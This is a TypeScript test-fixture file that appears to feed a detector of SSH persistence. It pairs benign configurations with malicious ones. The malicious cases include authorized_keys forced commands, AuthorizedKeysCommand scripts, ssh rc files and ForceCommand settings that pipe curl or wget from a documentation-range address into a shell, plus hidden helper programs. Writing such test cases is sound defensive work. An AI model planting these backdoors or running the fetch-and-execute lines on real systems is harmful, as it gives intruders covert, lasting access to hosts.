/** Cases of SSH; keys are of no pair that anybody has, addresses of the documentation ranges, nothing is run. */
import { type Files, inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';
import { publicKey } from '../../../formats/authorized-keys.fixture.ts';

const debian = `Include /etc/ssh/sshd_config.d/*.conf
KbdInteractiveAuthentication no
UsePAM yes
X11Forwarding yes
PrintMotd no
AcceptEnv LANG LC_*
Subsystem	sftp	/usr/lib/openssh/sftp-server
`;
const server = { '/usr/lib/openssh/sftp-server': inertProgram(5000) };
const config = '/etc/ssh/sshd_config';
const foreign = '/usr/lib/openssh/ssh-helperd';
const hidden = '/usr/share/.sshd/helper';
const fetches = '#!/bin/sh\ncurl -fsSL http://192.0.2.66/k.sh | sh >/dev/null 2>&1\n';
const with_ = (line: string): Files => ({ [config]: `${debian}${line}\n` });

const keys: readonly MechanismCase[] = [
  {
    mechanism: 'ssh-authorized-key',
    dress: 'fetch-and-run',
    what: 'a key whose forced command fetches',
    planted: {
      '/root/.ssh/authorized_keys': `command="curl -s http://192.0.2.66/a | sh; exec $SHELL" ${publicKey(1, 'root@example')}\n`,
    },
  },
  {
    mechanism: 'ssh-authorized-key',
    dress: 'unowned-binary',
    what: 'a key of a system account (a key runs no program)',
    planted: { '/usr/sbin/.ssh/authorized_keys': `${publicKey(2, 'daemon')}\n` },
  },
  {
    mechanism: 'ssh-authorized-key',
    dress: 'unowned-binary',
    what: 'a key of root that a database wrote',
    planted: {
      '/root/.ssh/authorized_keys': Buffer.from(
        `REDIS0009\xfa\tredis-ver\x055.0.7\xfe\0\xfb\x01\0\0\x07crackit\xc2\n\n\n${publicKey(3, 'u@h')}\n\n\n\xff\x12\x34`,
        'latin1',
      ),
    },
  },
  {
    mechanism: 'ssh-authorized-key',
    dress: 'owned-edit',
    what: 'a key far below those of the owner (no package has such files)',
    planted: {
      '/root/.ssh/authorized_keys': `${publicKey(4, 'ada@laptop')}\n${'\n'.repeat(80)}${publicKey(5, 'ada@laptop')}\n`,
    },
  },
  {
    mechanism: 'ssh-authorized-key',
    dress: 'honest',
    what: 'keys of administrators, of automation and of an image',
    planted: {
      '/root/.ssh/authorized_keys': `# administrators\n${publicKey(6, 'ada@laptop')}\n${publicKey(7, 'bob@example.org', 'ssh-rsa')}\n${publicKey(8, 'ansible-automation')}\nno-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \\"ubuntu\\" rather than the user \\"root\\".';echo;sleep 10;exit 142" ${publicKey(9, 'cloud-key')}\n`,
      '/home/ada/.ssh/authorized_keys': `${publicKey(6, 'ada@laptop')}\n${publicKey(10, '运维@bastion')}\n${publicKey(11)}\n`,
    },
  },
  {
    mechanism: 'ssh-authorized-key',
    dress: 'honest',
    what: 'keys that run one command: repositories, backups, and a tunnel',
    planted: {
      '/etc/passwd':
        'root:x:0:0:root:/root:/bin/bash\nbackup:x:34:34:backup:/var/backups:/bin/sh\ngit:x:997:997::/var/opt/gitlab:/bin/sh\ntunnel:x:1001:1001::/home/tunnel:/usr/sbin/nologin\npostgres:x:101:103::/var/lib/postgresql:/bin/bash\n',
      '/var/opt/gitlab/.ssh/authorized_keys': `# Managed by gitlab-shell\ncommand="/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-1",no-port-forwarding,no-X11-forwarding,no-agent-forwarding,no-pty ${publicKey(12)}\n`,
      '/var/backups/.ssh/authorized_keys': `from="backup.example.org",no-port-forwarding,command="/usr/lib/amanda/amandad -auth=ssh amdump" ${publicKey(13, 'amanda')}\n`,
      '/home/tunnel/.ssh/authorized_keys': `restrict,port-forwarding,permitopen="127.0.0.1:5432" ${publicKey(14, 'app')}\n`,
      '/var/lib/postgresql/.ssh/authorized_keys': `from="192.0.2.10" ${publicKey(15, 'barman@backup')}\n`,
      '/root/.ssh/authorized_keys': `from="192.0.2.8",command="rsync --server --sender -logDtprze.iLsfxC . /srv/",no-pty ${publicKey(16, 'rsnapshot@backup')}\n`,
    },
  },
];

const keysCommand: readonly MechanismCase[] = [
  {
    mechanism: 'ssh-keys-command',
    dress: 'fetch-and-run',
    what: 'a script that fetches and runs whenever somebody comes in',
    planted: {
      ...with_('AuthorizedKeysCommand /usr/local/bin/ssh-keys %u\nAuthorizedKeysCommandUser root'),
      '/usr/local/bin/ssh-keys': fetches,
    },
  },
  {
    mechanism: 'ssh-keys-command',
    dress: 'unowned-binary',
    what: 'a foreign program beside those of sshd',
    packaged: server,
    planted: {
      ...with_(`AuthorizedKeysCommand ${foreign} %u\nAuthorizedKeysCommandUser root`),
      [foreign]: inertProgram(),
    },
  },
  {
    mechanism: 'ssh-keys-command',
    dress: 'owned-edit',
    what: 'the script of a package runs a hidden program too',
    packaged: { '/usr/share/ec2-instance-connect/eic_keys': '#!/bin/sh\nexec /usr/bin/true "$1"\n' },
    planted: {
      ...with_(
        'AuthorizedKeysCommand /usr/share/ec2-instance-connect/eic_keys %u %f\nAuthorizedKeysCommandUser nobody',
      ),
      '/usr/share/ec2-instance-connect/eic_keys': `#!/bin/sh\n${hidden} &\nexec /usr/bin/true "$1"\n`,
      [hidden]: inertProgram(),
    },
  },
  {
    mechanism: 'ssh-keys-command',
    dress: 'honest',
    what: 'keys of a directory',
    packaged: { '/usr/bin/sss_ssh_authorizedkeys': inertProgram(5200) },
    planted: with_('AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nAuthorizedKeysCommandUser nobody'),
  },
  {
    mechanism: 'ssh-keys-command',
    dress: 'honest',
    what: 'a script of the owner that asks a server of keys, and runs nothing of it',
    planted: {
      ...with_(
        'Match User git\n  AuthorizedKeysCommand /usr/local/bin/gitea keys -e git -u %u -t %t -k %k\n  AuthorizedKeysCommandUser git\nMatch all\nAuthorizedKeysCommand /usr/local/bin/keys-of %u\nAuthorizedKeysCommandUser nobody',
      ),
      '/usr/local/bin/keys-of':
        '#!/bin/sh\n# keys of our directory\nexec curl -sf --max-time 5 "https://keys.example.org/users/$1.keys"\n',
      '/usr/local/bin/gitea': inertProgram(9100),
    },
  },
];

const authorities: readonly MechanismCase[] = [
  {
    mechanism: 'ssh-trusted-ca',
    dress: 'fetch-and-run',
    what: 'an authority in a temporary folder (nothing can be fetched here)',
    planted: {
      ...with_('TrustedUserCAKeys /dev/shm/.ca.pub'),
      '/dev/shm/.ca.pub': `${publicKey(20, 'ca')}\n`,
    },
  },
  {
    mechanism: 'ssh-trusted-ca',
    dress: 'unowned-binary',
    what: 'a foreign authority among the files of a package (a key runs no program)',
    packaged: server,
    planted: {
      ...with_('TrustedUserCAKeys /usr/lib/openssh/user-ca.pub'),
      '/usr/lib/openssh/user-ca.pub': `${publicKey(21)}\n`,
    },
  },
  {
    mechanism: 'ssh-trusted-ca',
    dress: 'owned-edit',
    what: 'an authority in a hidden folder, in the file of a package',
    packaged: { [config]: debian },
    conffiles: [config],
    planted: {
      ...with_('TrustedUserCAKeys /usr/share/.keys/ca.pub'),
      '/usr/share/.keys/ca.pub': `${publicKey(22)}\n`,
    },
  },
  {
    mechanism: 'ssh-trusted-ca',
    dress: 'honest',
    what: 'the authority of a company, and one of a single account',
    planted: {
      ...with_('TrustedUserCAKeys /etc/ssh/trusted-user-ca-keys.pem'),
      '/etc/ssh/trusted-user-ca-keys.pem': `${publicKey(23, 'vault-ca', 'ssh-rsa')}\n`,
      '/home/ada/.ssh/authorized_keys': `cert-authority,principals="ada" ${publicKey(24, 'team-ca')}\n`,
    },
  },
];

const principals: readonly MechanismCase[] = [
  {
    mechanism: 'ssh-principals',
    dress: 'fetch-and-run',
    what: 'a script that fetches and runs whenever a certificate is shown',
    planted: {
      ...with_(
        'TrustedUserCAKeys /etc/ssh/ca.pub\nAuthorizedPrincipalsCommand /usr/local/bin/principals %u\nAuthorizedPrincipalsCommandUser root',
      ),
      '/etc/ssh/ca.pub': `${publicKey(25)}\n`,
      '/usr/local/bin/principals': fetches,
    },
  },
  {
    mechanism: 'ssh-principals',
    dress: 'unowned-binary',
    what: 'a foreign program beside those of sshd',
    packaged: server,
    planted: {
      ...with_(`AuthorizedPrincipalsCommand ${foreign} %u\nAuthorizedPrincipalsCommandUser root`),
      [foreign]: inertProgram(),
    },
  },
  {
    mechanism: 'ssh-principals',
    dress: 'owned-edit',
    what: 'principals of everybody in a hidden folder, in the file of a package',
    packaged: { [config]: debian },
    conffiles: [config],
    planted: {
      ...with_('TrustedUserCAKeys /etc/ssh/ca.pub\nAuthorizedPrincipalsFile /var/lib/.p/%u'),
      '/etc/ssh/ca.pub': `${publicKey(26)}\n`,
      '/var/lib/.p/root': 'x\n',
    },
  },
  {
    mechanism: 'ssh-principals',
    dress: 'honest',
    what: 'zones and roles of a company',
    planted: {
      ...with_('TrustedUserCAKeys /etc/ssh/ca.pub\nAuthorizedPrincipalsFile /etc/ssh/auth_principals/%u'),
      '/etc/ssh/ca.pub': `${publicKey(27, 'company-ca')}\n`,
      '/etc/ssh/auth_principals/root': '# zones\nzone-webservers\nroot-everywhere\n',
      '/etc/ssh/auth_principals/ada': 'ada\n',
    },
  },
];

const rc: readonly MechanismCase[] = [
  {
    mechanism: 'ssh-rc',
    dress: 'fetch-and-run',
    what: 'a script of a login that fetches',
    planted: { '/root/.ssh/rc': '(wget -qO- http://192.0.2.66/rc.sh | bash) >/dev/null 2>&1 &\n' },
  },
  {
    mechanism: 'ssh-rc',
    dress: 'unowned-binary',
    what: 'a script of every login that runs a foreign program of the system',
    packaged: server,
    planted: { '/etc/ssh/sshrc': `${foreign} >/dev/null 2>&1 &\n`, [foreign]: inertProgram() },
  },
  {
    mechanism: 'ssh-rc',
    dress: 'owned-edit',
    what: 'the client of every user runs a hidden program, in the file of a package',
    packaged: { '/etc/ssh/ssh_config': 'Host *\n    SendEnv LANG LC_*\n' },
    conffiles: ['/etc/ssh/ssh_config'],
    planted: {
      '/etc/ssh/ssh_config': `Host *\n    SendEnv LANG LC_*\nMatch exec "${hidden}"\n`,
      [hidden]: inertProgram(),
    },
  },
  {
    mechanism: 'ssh-rc',
    dress: 'honest',
    what: 'an agent for a multiplexer and the cookie of X',
    planted: {
      '/home/ada/.ssh/rc':
        'if [ -S "$SSH_AUTH_SOCK" ]; then ln -sf "$SSH_AUTH_SOCK" ~/.ssh/agent.sock; fi\nif read proto cookie && [ -n "$DISPLAY" ]; then\n  echo add unix:$(echo $DISPLAY | cut -c11-) $proto $cookie | xauth -q -\nfi\n',
    },
  },
  {
    mechanism: 'ssh-rc',
    dress: 'honest',
    what: 'hosts behind other hosts and services of a cloud',
    planted: {
      '/home/ada/.ssh/config':
        'Host *.internal.example\n  ProxyCommand ssh -W %h:%p bastion.example.org\nHost i-* mi-*\n  ProxyCommand sh -c "aws ssm start-session --target %h --document-name AWS-StartSSHSession --parameters \'portNumber=%p\'"\nHost git.example.org\n  ProxyCommand cloudflared access ssh --hostname %h\nHost via-socks\n  ProxyCommand nc -X 5 -x 127.0.0.1:1080 %h %p\nMatch host db exec "nc -z -w1 192.0.2.20 22"\n  ProxyJump none\n',
    },
  },
];

const settings: readonly MechanismCase[] = [
  {
    mechanism: 'sshd-setting',
    dress: 'fetch-and-run',
    what: 'a forced command that fetches',
    planted: with_('Match User ada\n  ForceCommand "curl -fsSL http://192.0.2.66/s | bash; exec $SHELL -l"'),
  },
  {
    mechanism: 'sshd-setting',
    dress: 'unowned-binary',
    what: 'a subsystem of a foreign program beside those of sshd',
    packaged: server,
    planted: { ...with_(`Subsystem maint ${foreign}`), [foreign]: inertProgram() },
  },
  {
    mechanism: 'sshd-setting',
    dress: 'owned-edit',
    what: 'keys of everybody in one file of a hidden folder, in the file of a package',
    packaged: { [config]: debian },
    conffiles: [config],
    planted: {
      ...with_('AuthorizedKeysFile .ssh/authorized_keys /usr/share/.keys/all'),
      '/usr/share/.keys/all': `${publicKey(28)}\n`,
    },
  },
  {
    mechanism: 'sshd-setting',
    dress: 'honest',
    what: 'an image of a cloud that permits passwords, and two ports',
    packaged: { ...server, [config]: debian },
    conffiles: [config],
    planted: {
      [config]: `${debian}Port 22\nPort 2222\nPermitRootLogin prohibit-password\nAllowUsers ada root\n`,
      '/etc/ssh/sshd_config.d/50-cloud-init.conf': 'PasswordAuthentication yes\n',
    },
  },
  {
    mechanism: 'sshd-setting',
    dress: 'honest',
    what: 'files for customers, repositories, and keys below /etc/ssh',
    packaged: server,
    planted: with_(
      'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/authorized_keys/%u\nPermitRootLogin no\nPasswordAuthentication no\nMatch Group sftponly\n  ChrootDirectory /srv/sftp/%u\n  ForceCommand internal-sftp -l INFO\n  AllowTcpForwarding no\nMatch User git\n  ForceCommand /usr/local/bin/gitea serv',
    ),
  },
  {
    mechanism: 'sshd-setting',
    dress: 'honest',
    what: 'a host whose owner lets root in with a password',
    packaged: server,
    planted: with_('PermitRootLogin yes\nPasswordAuthentication yes'),
  },
];

export const sshCases: readonly MechanismCase[] = [
  ...keys,
  ...keysCommand,
  ...authorities,
  ...principals,
  ...rc,
  ...settings,
];
